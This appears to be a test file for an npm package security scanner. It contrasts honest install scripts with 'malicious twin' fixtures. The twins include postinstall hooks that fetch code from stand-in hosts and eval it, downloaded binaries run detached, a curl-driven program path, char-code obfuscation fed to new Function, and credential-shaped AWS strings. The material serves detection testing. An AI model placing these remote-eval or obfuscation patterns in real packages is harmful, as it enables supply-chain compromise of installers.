/**
 * Honest install scripts held at CAUTION on the install-time npm sample and benign-npm.txt, each
 * cause as a general statement with its real case's shape, variants in other syntax and layout,
 * and the malicious twin that must still be caught:
 *
 *  - reach (npm/reach-js.ts): only code the hook reaches counts for its network use: the hook's
 *    own file, the module-level code of what it loads and the functions reached code calls. A CLI
 *    whose postinstall loads its command modules (netlify-cli) or a module that reads one constant
 *    of a module whose functions call an API (appium) makes no network call at install;
 *  - vendor binaries (ownbinary.ts vendorBinaryDownload): a platform binary downloaded over HTTPS
 *    from a base the user can replace (`process.env.X || 'https://…'`), with no other behaviour, is
 *    a LOW warning (checked or not, the message says which) — chromedriver, edgedriver, ngrok,
 *    yt-dlp's wrapper;
 *  - an AWS access key id with no secret access key near it (a presigned URL's X-Amz-Credential in
 *    ffmpeg-static's installer) is not a leaked credential;
 *  - character codes count as a hidden string only when written as literal numbers (ganache's
 *    browser bundle decodes bytes with `fromCharCode(x)` next to a `new Function` of its own).
 *
 * The npm malware variant sets (pkg-npm-variants.test.ts) stay as they were: all BLOCKED.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import type { RegistrySource } from '../../shared/packages/types.js';
import { buildTgz, npmTgz } from '../fixtures/archives/build.js';

const REGISTRY = 'registry.example.org';
const level = (a: ArchiveAnalysis, registry: RegistrySource = 'npm') =>
  packageVerdict(reviewPackage({ registry, name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const npm = (files: Record<string, string>) => analyzeArchive(npmTgz(files), { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] });
const rules = (a: ArchiveAnalysis) => a.findings.filter((f) => f.severity !== 'INFO').map((f) => `${f.ruleId}:${f.severity}`);
const hook = (a: ArchiveAnalysis) => a.findings.find((f) => f.category === 'install_script' && f.file.endsWith('package.json'));

// ---------------------------------------------------------------------------------------------
// Reach: a CLI whose postinstall loads its commands

const cliPkg = JSON.stringify({ name: 'deploy-cli', version: '1.0.0', type: 'module', scripts: { postinstall: 'node ./scripts/postinstall.js' } });
const cliFiles = (deployBody: string) => ({
  'package.json': cliPkg,
  'scripts/postinstall.js': `import process from 'node:process';
const postInstall = async () => {
  const { createMainCommand } = await import('../dist/commands/index.js');
  const program = createMainCommand();
  console.log('Success! ' + program.commands.length + ' commands installed');
};
if (!process.env.CI) await postInstall();
`,
  'dist/commands/index.js': "export { createMainCommand } from './main.js';\n",
  'dist/commands/main.js': `import { Command } from 'commander';
import { createDeployCommand } from './deploy/index.js';
export const createMainCommand = () => {
  const program = new Command('deploy-cli');
  createDeployCommand(program);
  return program;
};
`,
  'dist/commands/deploy/index.js': `export const createDeployCommand = (program) => program
  .command('deploy')
  .option('--timeout <n>', 'seconds', (v) => Number.parseInt(v))
  .action(async (options) => {
    const { deploy } = await import('./deploy.js');
    await deploy(options);
  });
`,
  'dist/commands/deploy/deploy.js': deployBody,
});

test('a postinstall that loads the CLI to print a banner does not run its deploy command (the netlify-cli shape): no network at install', async () => {
  const a = await npm(cliFiles("export const deploy = async (o) => fetch('https://api.deploy-cli.example/v1/deploys', { method: 'POST', body: JSON.stringify(o) });\n"));
  assert.is(hook(a)?.ruleId, 'install_script_local', rules(a).join(' '));
  assert.is(level(a), 'MONITORED');
});

test('twin: the postinstall parses its own argv (the action runs), or the command module calls the API at its top level: network at install (CAUTION)', async () => {
  // The registration is deferred, but the hook's own file is read whole: a fetch written there counts.
  const entry = await npm({
    ...cliFiles('export const deploy = async () => {};\n'),
    'scripts/postinstall.js': "const { createMainCommand } = await import('../dist/commands/index.js');\ncreateMainCommand();\nawait fetch('https://metrics.install-counter.example/installed');\n",
  });
  assert.is(hook(entry)?.ruleId, 'install_script_network', rules(entry).join(' '));
  assert.is(level(entry), 'CAUTION');
  const top = await npm({
    ...cliFiles('export const deploy = async () => {};\n'),
    'dist/commands/deploy/index.js': "await fetch('https://plugins.cli-registry.example/index.json');\nexport const createDeployCommand = (program) => program.command('deploy');\n",
  });
  assert.is(hook(top)?.ruleId, 'install_script_network', rules(top).join(' '));
  assert.is(level(top), 'CAUTION');
});

test('reach: a module that reads one constant of another does not call its API functions (the appium shape, TypeScript CommonJS output)', async () => {
  const files = {
    'package.json': JSON.stringify({ name: 'automation-server', version: '3.0.0', scripts: { postinstall: 'node ./scripts/autoinstall.js' } }),
    'scripts/autoinstall.js': `/** @type {typeof import('../lib/cli/extension').run} */
let run;
async function init() {
  ({ run } = require('../build/lib/cli/extension'));
  return true;
}
async function main() {
  if (!(await init())) return;
  await run({ plugins: (process.env.npm_config_plugins || '').split(',') });
}
main();
`,
    'build/lib/cli/extension.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.run = run;
const config_1 = require("../extension/config");
async function run(args) {
  for (const p of args.plugins) console.log((0, config_1.warning)(p));
}
`,
    'build/lib/extension/config.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.warning = warning;
const build_1 = require("../helpers/build");
function warning(name) { return name + ' may not work with v' + build_1.VERSION; }
`,
    'build/lib/helpers/build.js': `"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
Object.defineProperty(exports, "__esModule", { value: true });
exports.VERSION = void 0;
exports.getGitRev = getGitRev;
const axios_1 = __importDefault(require("axios"));
exports.VERSION = require('../../../package.json').version;
async function getGitRev() {
  return (await axios_1.default.get('https://api.github.com/repos/automation-server/server/git/refs/tags/v' + exports.VERSION)).data.object.sha;
}
`,
    // Reached only through the JSDoc type comment above: not a load.
    'lib/cli/extension.ts': "import axios from 'axios';\nexport async function run() { await axios.get('https://example.invalid/x'); }\n",
  };
  const a = await npm(files);
  assert.is(hook(a)?.ruleId, 'install_script_local', rules(a).join(' '));
  assert.is(level(a), 'MONITORED');

  // Twin: the same tree where the reached function calls getGitRev (TypeScript's `(0, m.f)()` form).
  const twin = await npm({
    ...files,
    'build/lib/extension/config.js': `"use strict";
exports.warning = warning;
const build_1 = require("../helpers/build");
async function warning(name) { return name + ' built from ' + (await (0, build_1.getGitRev)()); }
`,
  });
  assert.is(hook(twin)?.ruleId, 'install_script_network', rules(twin).join(' '));
  assert.is(level(twin), 'CAUTION');
});

test('reach variants: a whole module called as a function, a class method, a promise callback, a script started with fork, a computed dispatch over an object of handlers, a renamed ESM import are reached', async () => {
  const pkg = (main: string) => JSON.stringify({ name: 'tool', version: '1.0.0', scripts: { postinstall: `node ${main}` } });
  const net = "require('https').get('https://downloads.tool.example/x', (r) => r.resume());";
  const cases: Record<string, Record<string, string>> = {
    'module value': { 'package.json': pkg('post.js'), 'post.js': "require('./lib/fetch')(() => {});\n", 'lib/fetch.js': `module.exports = function (cb) { ${net} cb(); };\n` },
    'class method': {
      'package.json': pkg('post.js'),
      'post.js': "const { Installer } = require('./lib/installer');\nnew Installer().install();\n",
      'lib/installer.js': `class Installer {\n  install() { ${net} }\n  uninstall() {}\n}\nmodule.exports = { Installer };\n`,
    },
    'then callback': {
      'package.json': pkg('post.js'),
      'post.js': "const l = require('./lib/later');\nPromise.resolve().then(() => l.go());\n",
      'lib/later.js': `exports.go = () => { ${net} };\n`,
    },
    'forked script': {
      'package.json': pkg('post.js'),
      'post.js': "const { fork } = require('child_process');\nconst path = require('path');\nfork(path.join(__dirname, 'lib', 'download.js'));\n",
      'lib/download.js': `function main() { ${net} }\nif (require.main === module) main();\n`,
    },
    'computed dispatch': {
      'package.json': pkg('cli.js bin install'),
      'cli.js': "require('./lib/commands').main(process.argv[2]);\n",
      'lib/commands.js': `const handlers = { install() { ${net} }, remove() {} };\nexports.main = (cmd) => handlers[cmd]();\n`,
    },
    'esm named import': {
      'package.json': JSON.stringify({ name: 'tool', version: '1.0.0', type: 'module', scripts: { postinstall: 'node post.mjs' } }),
      'post.mjs': "import { fetchIt as go } from './lib/net.mjs';\nawait go();\n",
      'lib/net.mjs': "export async function fetchIt() { await fetch('https://downloads.tool.example/x'); }\nexport function unused() {}\n",
    },
  };
  for (const [name, files] of Object.entries(cases)) {
    const a = await npm(files);
    assert.is(hook(a)?.ruleId, 'install_script_network', `${name}: ${rules(a).join(' ')}`);
  }
});

test('reach never hides a HIGH finding: a remote eval in an uncalled function of a loaded module still makes the hook CRITICAL (BLOCKED)', async () => {
  const a = await npm({
    'package.json': JSON.stringify({ name: 'tool', version: '1.0.0', scripts: { postinstall: 'node post.js' } }),
    'post.js': "const u = require('./lib/util');\nconsole.log(u.VERSION);\n",
    'lib/util.js': `exports.VERSION = '1.0.0';
exports.update = function () {
  require('https').get('https://upd.tool-cdn.example/u.js', (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => eval(s)); });
};
`,
  });
  assert.ok(a.findings.some((f) => f.ruleId === 'install_script_runs_malicious' && f.severity === 'CRITICAL'), rules(a).join(' '));
  assert.is(level(a), 'BLOCKED');
});

// ---------------------------------------------------------------------------------------------
// Vendor binaries downloaded at install

const driverPkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'browserdriver', version: '150.0.0', homepage: 'https://github.com/someone/node-browserdriver', scripts: { install: 'node install.js' }, ...extra });

// The chromedriver shape: a default CDN the user can replace, https download, unzip, chmod, `--version`.
const driverInstaller = (o: { base?: string; run?: string; check?: string; extra?: string } = {}) => `'use strict';
const fs = require('node:fs');
const path = require('node:path');
const https = require('node:https');
const child_process = require('node:child_process');
${o.check ?? ''}
function getNpmEnvVar(name) {
  return process.env[name.toUpperCase()] ?? process.env['npm_config_' + name];
}
class Installer {
  async install() {
    const cdnUrl = ${o.base ?? "(getNpmEnvVar('browserdriver_cdnurl') || 'https://driver-builds.vendor-cdn.example').replace(/\\/+$/, '')"};
    const file = path.join(__dirname, 'lib', 'browserdriver');
    await this.download(cdnUrl + '/150.0.0/' + process.platform + '-' + process.arch + '/browserdriver', file);
    fs.chmodSync(file, 0o755);
    ${o.run ?? "const cp = child_process.spawn(file, ['--version']);\n    cp.stdout.pipe(process.stdout);"}
  }
  download(url, to) {
    return new Promise((resolve, reject) => {
      https.get(url, (res) => {
        const out = fs.createWriteStream(to);
        res.pipe(out);
        out.on('finish', resolve);
      }).on('error', reject);
    });
  }
}
${o.extra ?? ''}
new Installer().install().catch((err) => { console.error('install failed', err); process.exit(1); });
`;

test('a platform driver from a CDN the user can replace, no digest (the chromedriver shape): LOW unverified-binary warning, MONITORED', async () => {
  const a = await npm({ 'package.json': driverPkg(), 'install.js': driverInstaller() });
  const f = hook(a);
  assert.is(f?.ruleId, 'install_script_unverified_binary', rules(a).join(' '));
  assert.is(f!.severity, 'LOW');
  assert.match(f!.message, /driver-builds\.vendor-cdn\.example/);
  assert.match(f!.message, /without checking a digest or signature/);
  assert.is(level(a), 'MONITORED');
});

test('variants: ESM with fetch, `??` and the base in a constants module (edgedriver); an options object before the env var (ngrok); an API URL default (yt-dlp wrapper)', async () => {
  const esm = await npm({
    'package.json': JSON.stringify({ name: 'edge-driver', version: '7.0.0', type: 'module', scripts: { postinstall: 'test -f ./dist/install.js && node ./dist/install.js || echo skipped' } }),
    'dist/constants.js': "export const BASE_CDN_URL = process.env.EDGE_DRIVER_CDNURL ?? process.env.npm_config_edge_driver_cdnurl ?? 'https://driver.vendor.example';\nexport const PRODUCTS_API = 'https://updates.vendor.example/api/products';\n",
    'dist/install.js': `import fsp from 'node:fs/promises';
import cp from 'node:child_process';
import { BASE_CDN_URL, PRODUCTS_API } from './constants.js';
export async function download(version) {
  const products = await (await fetch(PRODUCTS_API)).json();
  const res = await fetch(\`\${BASE_CDN_URL}/\${version ?? products[0].version}/driver.zip\`);
  await fsp.writeFile('/tmp/driver.zip', Buffer.from(await res.arrayBuffer()));
  cp.exec(\`"\${process.env.EDGE_PATH}" --version\`, () => {});
}
if (process.env.EDGE_DRIVER_AUTO_INSTALL) await download();
`,
  });
  assert.is(hook(esm)?.ruleId, 'install_script_unverified_binary', rules(esm).join(' '));
  assert.is(level(esm), 'MONITORED');

  const options = await npm({
    'package.json': JSON.stringify({ name: 'tunnel-bin', version: '4.0.0', scripts: { postinstall: 'node ./postinstall.js' } }),
    'postinstall.js': "require('./download')((err) => process.exit(err ? 1 : 0));\n",
    'download.js': `function downloadBinary(callback, options) {
  options = options || {};
  const got = require('got');
  const fs = require('fs');
  const cdn = options.cdnUrl || process.env.TUNNEL_CDN_URL || 'https://bin.tunnel-vendor.example';
  got.stream(cdn + '/c/tunnel-stable-' + process.platform + '.zip').pipe(fs.createWriteStream(__dirname + '/bin/tunnel.zip')).on('finish', callback);
}
module.exports = downloadBinary;
`,
  });
  assert.is(hook(options)?.ruleId, 'install_script_unverified_binary', rules(options).join(' '));

  const api = await npm({
    'package.json': JSON.stringify({ name: 'media-dl-exec', version: '3.0.0', scripts: { postinstall: 'node scripts/postinstall.js' } }),
    'src/constants.js': "module.exports = { HOST: process.env.MEDIA_DL_HOST ?? 'https://api.github.com/repos/media-dl/media-dl/releases/latest' };\n",
    'scripts/postinstall.js': `const { createWriteStream } = require('node:fs');
const { pipeline } = require('node:stream/promises');
const { HOST } = require('../src/constants');
(async () => {
  const release = await (await fetch(HOST)).json();
  const asset = release.assets.find((a) => a.name === 'media-dl');
  await pipeline((await fetch(asset.browser_download_url)).body, createWriteStream(__dirname + '/../bin/media-dl'));
})();
`,
  });
  assert.is(hook(api)?.ruleId, 'install_script_unverified_binary', rules(api).join(' '));
});

test('variants: a digest or a signature check turns it into the own-binary warning (configurable base, or the package’s own host family)', async () => {
  const digest = await npm({
    'package.json': driverPkg(),
    'install.js': driverInstaller({
      check: "const crypto = require('node:crypto');\nfunction sha(file) { return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex'); }\n",
      extra: "Installer.prototype.verify = function (file, expected) { if (sha(file) !== expected) throw new Error('checksum mismatch'); };\n",
    }),
  });
  assert.is(hook(digest)?.ruleId, 'install_script_own_binary', rules(digest).join(' '));
  assert.match(hook(digest)!.message, /SHA-2 digest/);
  const signed = await npm({
    'package.json': driverPkg({ homepage: 'https://browserdriver.example' }),
    'install.js': driverInstaller({
      base: "'https://downloads.browserdriver.example'",
      check: "const crypto = require('node:crypto');\nfunction verify(data, sig, key) { return crypto.createVerify('sha256').update(data).verify(key, sig); }\n",
    }),
  });
  assert.is(hook(signed)?.ruleId, 'install_script_own_binary', rules(signed).join(' '));
  assert.match(hook(signed)!.message, /signature/);
  assert.is(level(signed), 'MONITORED');
});

test('twins stay CAUTION or worse: the download is run, run detached, fetched over plain HTTP or from an IP, loaded as code, or comes from a fixed base unchecked', async () => {
  const twins: Record<string, string> = {
    runs: driverInstaller({ run: 'child_process.execFile(file, [], () => {});' }),
    detached: driverInstaller({ run: "child_process.spawn(file, ['--version'], { detached: true, stdio: 'ignore' }).unref();" }),
    http: driverInstaller({ base: "process.env.BROWSERDRIVER_CDNURL || 'http://driver-builds.vendor-cdn.example'" }),
    ip: driverInstaller({ base: "process.env.BROWSERDRIVER_CDNURL || 'https://203.0.113.9'" }),
    loaded: driverInstaller({ run: "require(path.join(require('os').tmpdir(), 'browserdriver'));" }),
    fixed: driverInstaller({ base: "'https://driver-builds.vendor-cdn.example'" }),
  };
  for (const [name, installer] of Object.entries(twins)) {
    const a = await npm({ 'package.json': driverPkg(), 'install.js': installer });
    assert.ok(level(a) === 'CAUTION' || level(a) === 'BLOCKED', `${name}: ${level(a)} ${rules(a).join(' ')}`);
    assert.not.ok(a.findings.some((f) => f.ruleId === 'install_script_unverified_binary'), name);
  }
  // Fetched text evaluated: the flow rule blocks it.
  const evals = await npm({
    'package.json': driverPkg(),
    'install.js': "const base = process.env.X_CDN || 'https://cdn.vendor-cdn.example';\nrequire('https').get(base + '/setup.js', (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => eval(s)); });\n",
  });
  assert.is(level(evals), 'BLOCKED', rules(evals).join(' '));
});

// A driver SDK from a base the user can replace, then a native build with the machine's tools: the
// program a command names is followed through the variables that hold it (reach-js.ts programOrigin).
// A tool the installer looks up (a literal name, or the path another literal program printed: the
// MSBuild path in node-gyp's log, `where msbuild`) is not the downloaded file; a folder joined with a
// name, the environment, a parameter or a response may be (ownbinary.ts refuses those).
const sdkInstaller = (o: { locate?: string; run?: string } = {}) => `var fs = require('fs');
var path = require('path');
var exec = require('child_process').exec;
var execSync = require('child_process').execSync;
var axios = require('axios');
var installerURL = 'https://downloads.dbvendor.example/drivers/cli';
installerURL = process.env.npm_config_DB_INSTALLER_URL || process.env.DB_INSTALLER_URL || installerURL;
var DOWNLOAD_DIR = path.resolve(process.cwd(), 'installer');
var INSTALLER_FILE = path.resolve(DOWNLOAD_DIR, 'linuxx64_cli.tar.gz');
function buildBinary() {
  var buildString = "node-gyp configure build ";
  buildString = buildString + ' --DB_HOME="$DB_HOME"';
  var msbuild = "msbuild";
  exec(buildString, function (error, stdout, stderr) {
    var lines = stderr.toString().split('\\n');
    for (var line of lines) {
      if (line.match(/MSBuild.exe/)) { msbuild = '"' + line.slice(15) + '"'; break; }
    }
    ${o.locate ?? ''}
    var msbuildString = msbuild + " /clp:Verbosity=minimal /nologo /p:Configuration=Release;Platform=x64 ";
    msbuildString = msbuildString + '"' + path.resolve(process.cwd(), 'build/binding.sln') + '"';
    ${o.run ?? 'exec(msbuildString, function () {});'}
    var addonBinary = "./build/Release/db_bindings.node";
    var nameToolCommand = 'install_name_tool -change libdb.dylib "$DB_HOME/lib/libdb.dylib" ' + addonBinary;
    if (process.env.DOWNLOADED) nameToolCommand = "install_name_tool -change libdb.dylib @loader_path/../../installer/driver/lib/libdb.dylib " + addonBinary;
    exec(nameToolCommand, function () {});
  });
}
function downloadCliDriver(url) {
  var outStream = fs.createWriteStream(INSTALLER_FILE);
  axios.get(url, { responseType: 'stream' }).then(function (response) { response.data.pipe(outStream); });
  outStream.once('close', function () { require('targz').decompress({ src: INSTALLER_FILE, dest: DOWNLOAD_DIR }, buildBinary); });
}
downloadCliDriver(installerURL + '/linuxx64_cli.tar.gz');
`;
const sdkPkg = JSON.stringify({ name: 'db-driver', version: '4.0.1', homepage: 'https://github.com/dbvendor/node-db-driver', scripts: { install: 'node installer/driverInstall.js' } });

test('a driver SDK from a base the user can replace, then node-gyp and the MSBuild its log names (the ibm_db shape): LOW unverified-binary warning, MONITORED', async () => {
  const a = await npm({ 'package.json': sdkPkg, 'installer/driverInstall.js': sdkInstaller() });
  assert.is(hook(a)?.ruleId, 'install_script_unverified_binary', rules(a).join(' '));
  assert.is(level(a), 'MONITORED');
});

test('variants: the tool found with `where` (execSync output), an execFile callback, a template literal around the located path', async () => {
  const variants: Record<string, { locate?: string; run?: string }> = {
    where: { locate: "msbuild = execSync('where msbuild').toString().trim().split('\\n')[0];" },
    execFile: { locate: "require('child_process').execFile('vswhere', ['-latest', '-find', 'MSBuild'], function (e, out) { msbuild = out.trim(); });" },
    template: { run: 'exec(`"${msbuild.trim()}" /m`, function () {});' },
  };
  for (const [name, o] of Object.entries(variants)) {
    const a = await npm({ 'package.json': sdkPkg, 'installer/driverInstall.js': sdkInstaller(o) });
    assert.is(hook(a)?.ruleId, 'install_script_unverified_binary', `${name}: ${rules(a).join(' ')}`);
    assert.is(level(a), 'MONITORED', name);
  }
});

test('twins stay CAUTION: the program is a file in the download folder, comes from the environment, a parameter, a response, or the output of a program named by a computed path or of a download tool', async () => {
  const twins: Record<string, { locate?: string; run?: string }> = {
    downloadDir: { run: "exec(path.join(DOWNLOAD_DIR, 'driver', 'bin', 'db2setup') + ' -q', function () {});" },
    extracted: { locate: "msbuild = DOWNLOAD_DIR + '/driver/bin/setup';" },
    env: { locate: 'msbuild = process.env.DB_SETUP;' },
    param: { run: 'function runIt(prog) { exec(prog + " /q", function () {}); } runIt(INSTALLER_FILE);' },
    response: { locate: "axios.get(installerURL + '/setup.json').then(function (r) { msbuild = r.data.setup; });" },
    computedOutput: { locate: "msbuild = execSync(path.join(DOWNLOAD_DIR, 'find-tool')).toString().trim();" },
    downloaderOutput: { locate: "msbuild = execSync('curl -s https://tools.dbvendor.example/setup-path').toString().trim();" },
  };
  for (const [name, o] of Object.entries(twins)) {
    const a = await npm({ 'package.json': sdkPkg, 'installer/driverInstall.js': sdkInstaller(o) });
    assert.ok(level(a) === 'CAUTION' || level(a) === 'BLOCKED', `${name}: ${level(a)} ${rules(a).join(' ')}`);
    assert.not.ok(a.findings.some((f) => f.ruleId === 'install_script_unverified_binary'), name);
  }
});

// ---------------------------------------------------------------------------------------------
// AWS key ids

test('an AWS key id inside a presigned URL (the ffmpeg-static installer’s self-test) is LOW; next to a secret access key it is a MEDIUM leak, in JavaScript and Python', async () => {
  const presigned =
    "https://release-assets.s3.amazonaws.com/29458513/26341680?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIWNJYAX4CSVEH53B%2F20200405%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20200405T225358Z&X-Amz-Expires=300&X-Amz-Signature=d6415097af04cf62ea9b69d3c1a421278e96bcb069afa48cf021ec3b6941bae4&X-Amz-SignedHeaders=host";
  const a = await npm({
    'package.json': JSON.stringify({ name: 'media-static', version: '5.0.0', scripts: { install: 'node install.js' } }),
    'install.js': `const { strictEqual } = require('assert');\nconst normalize = (u) => { u = new URL(u); for (const k of [...u.searchParams.keys()]) if (k.toLowerCase().startsWith('x-amz-')) u.searchParams.delete(k); return u.href; };\nstrictEqual(normalize('${presigned}'), 'https://release-assets.s3.amazonaws.com/29458513/26341680');\n`,
  });
  assert.ok(a.findings.some((f) => f.ruleId === 'aws_key_id' && f.severity === 'LOW'), rules(a).join(' '));
  assert.not.ok(a.findings.some((f) => f.ruleId === 'hardcoded_secret'));
  assert.is(level(a), 'MONITORED');

  const secret = 'Zk9/wQ2rT7pLm4Xv8Bn1Cy6Hd3Ja5Ue0Gs+Fi2Ko';
  const js = await npm({ 'package.json': JSON.stringify({ name: 'uploader', version: '1.0.0', main: 'index.js' }), 'index.js': `module.exports = new S3({ accessKeyId: 'AKIA${'R'.repeat(16)}', secretAccessKey: '${secret}' });\n` });
  assert.ok(js.findings.some((f) => f.ruleId === 'hardcoded_secret' && f.severity === 'MEDIUM'), rules(js).join(' '));
  assert.is(level(js), 'CAUTION');
  const py = await analyzeArchive(
    buildTgz([
      { path: 'uploader-1.0/PKG-INFO', data: 'Metadata-Version: 2.1\nName: uploader\nVersion: 1.0\n' },
      { path: 'uploader-1.0/uploader/__init__.py', data: `import boto3\nclient = boto3.client('s3', aws_access_key_id='AKIA${'R'.repeat(16)}',\n    aws_secret_access_key='${secret}')\n` },
    ]),
    { kind: 'tgz', registry: 'pypi' },
  );
  assert.ok(py.findings.some((f) => f.ruleId === 'hardcoded_secret' && f.severity === 'MEDIUM'), rules(py).join(' '));
});

// ---------------------------------------------------------------------------------------------
// Character codes

test('a bundle that decodes bytes with fromCharCode(x) and builds a class with new Function (the ganache web bundle) is not charcode obfuscation; literal codes with an eval are', async () => {
  const decoders = Array.from({ length: 60 }, (_, i) => `function d${i}(b){let s='';for(let i=0;i<b.length;i++)s+=String.fromCharCode(b[i]+${i % 3});return s}`).join(';');
  const bundle = `${decoders};function named(e,t){return new Function("superClass",\`return class \${t} extends superClass {}\`)(e)};module.exports={named};\n`;
  const honest = await npm({ 'package.json': JSON.stringify({ name: 'chain-sim', version: '7.0.0', browser: 'dist/web/sim.min.js', main: 'dist/web/sim.min.js' }), 'dist/web/sim.min.js': bundle });
  assert.not.ok(honest.findings.some((f) => f.ruleId === 'charcode_obfuscation'), rules(honest).join(' '));
  assert.not.equal(level(honest), 'CAUTION');

  const hidden = Array.from({ length: 60 }, (_, i) => `var s${i}=String.fromCharCode(${100 + (i % 20)},${101 + (i % 7)})`).join(';');
  const twin = await npm({ 'package.json': JSON.stringify({ name: 'chain-sim', version: '7.0.0', main: 'index.js' }), 'index.js': `${hidden};var k=s1+s2;new Function(k)();\n` });
  assert.ok(twin.findings.some((f) => f.ruleId === 'charcode_obfuscation' && f.severity === 'MEDIUM'), rules(twin).join(' '));
  assert.ok(level(twin) === 'CAUTION' || level(twin) === 'BLOCKED');
});

test.run();
